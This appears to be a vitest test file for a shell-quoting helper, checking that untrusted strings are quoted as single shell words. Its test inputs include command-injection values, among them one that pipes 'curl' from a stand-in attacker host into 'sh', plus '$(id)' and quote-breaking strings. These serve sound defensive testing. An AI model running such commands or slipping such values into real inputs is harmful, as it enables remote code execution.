import { expect, test } from 'vitest';
import { command, shellWord } from './shell';

test.each([
  ['dc1-dc2', 'dc1-dc2'],
  ['shop.token', 'shop.token'],
  ['', "''"],
  ['-rf', "'-rf'"],
  ['a b', "'a b'"],
  ['x > y; curl -s https://evil.example | sh; :', "'x > y; curl -s https://evil.example | sh; :'"],
  ['$(id)', "'$(id)'"],
  ['`id`', "'`id`'"],
  ['"', `'"'`],
  ["it's", String.raw`'it'\''s'`],
  ["';id;'", String.raw`''\'';id;'\'''`],
  ['a\nid\n', "'a id '"],
  ['a\r\n\tb', "'a b'"],
  ['a\u202eb\u2028c\u200bd', "'a b c d'"],
  ['ä', "'ä'"],
  ['a\\', String.raw`'a\'`],
])('%j is one word', (text, word) => {
  expect(shellWord(text)).toBe(word);
});

test('a template quotes its values and nothing else', () => {
  expect(command`(umask 077; cat > ${'a; b.token'}) && shred -u ${'dc1.token'}`).toBe(
    "(umask 077; cat > 'a; b.token') && shred -u dc1.token",
  );
});
